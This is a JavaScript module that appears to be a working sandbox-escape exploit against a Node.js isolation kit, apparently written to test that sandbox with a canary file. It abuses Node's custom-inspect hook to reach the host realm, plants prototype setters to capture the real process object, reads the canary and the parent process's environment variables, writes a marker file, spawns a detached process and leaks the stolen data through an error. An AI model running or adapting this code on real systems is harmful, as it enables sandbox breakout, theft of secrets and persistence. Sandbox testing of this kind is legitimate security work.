import { foreignTop } from "./probe";
import { CANARY_FILE, GUARD } from "./target";

let told = "";

export function attack() {
  const name = {
    __proto__: null,
    [Symbol.toPrimitive]: () => "./none",
    replace: () => "x",
    startsWith: () => true,
    [Symbol.for("nodejs.util.inspect.custom")](_depth, _options, inspect) {
      const top = foreignTop(inspect);
      if (top !== undefined) harm(top);
      return "";
    },
  };
  try {
    require(name);
  } catch {
    // The hook has what it wants.
  }
  console.log(told);
  if (told !== "") throw new Error(told);
}

/** With the kit's Object.prototype in hand: waits for an object that leads to Node's process, and does harm with it. */
export function harm(top) {
  const seen = new Set();
  const look = (value) => {
    const found = value?.mainModule !== undefined && typeof value.binding === "function" ? value : value?.process;
    if (found?.mainModule === undefined || seen.has(found)) return;
    seen.add(found);
    const load = found.mainModule.require.bind(found.mainModule);
    const fs = load("fs");
    const parts = [];
    for (const file of [CANARY_FILE, `/proc/${found.ppid}/environ`]) {
      try {
        parts.push(fs.readFileSync(file, "utf8"));
      } catch {
        // Not here.
      }
    }
    fs.writeFileSync(`${GUARD}/was-here`, "x");
    load("child_process").spawn(found.execPath, ["-e", "setTimeout(() => {}, 30000)"], { detached: true, stdio: "ignore" }).unref();
    told = parts.join(" ").slice(0, 1900);
  };
  for (const key of ["_eventListeners", "_opts", "suite", "total", "failures", "stats", "currentRunnable"]) {
    Object.defineProperty(top, key, {
      configurable: true,
      get: () => undefined,
      set(value) {
        Object.defineProperty(this, key, { value, writable: true, configurable: true, enumerable: true });
        try {
          look(this.process);
        } catch {
          // Not this one.
        }
        if (value?.set !== undefined) {
          const { set } = value;
          value.set = function (target, listeners) {
            look(target);
            return set.call(this, target, listeners);
          };
        }
      },
    });
  }
}
